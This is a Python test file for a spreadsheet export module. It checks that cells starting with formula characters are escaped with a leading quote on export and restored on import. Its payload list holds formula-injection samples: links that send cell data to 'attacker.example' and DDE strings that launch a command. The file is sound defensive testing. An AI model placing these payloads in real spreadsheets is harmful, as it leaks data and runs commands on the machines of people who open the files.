"""Spreadsheet cells never run as formulas (OWASP's rule), and the import reads back what was exported."""

import pytest

from hamkor.cells import inert, restored

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
    '+1+cmd|"/C calc"!A0',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
]


@pytest.mark.parametrize('payload', PAYLOADS)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(payload):
    assert inert(payload) == "'" + payload
    assert restored(inert(payload)) == payload


@pytest.mark.parametrize('value', ['Railway', '-12.5', '+3', '-0', 12, -12.5, None, "it's fine", ''])
def test_text_and_numbers_stay_as_they_are(value):
    assert inert(value) == value
    if isinstance(value, str):
        assert restored(value) == value
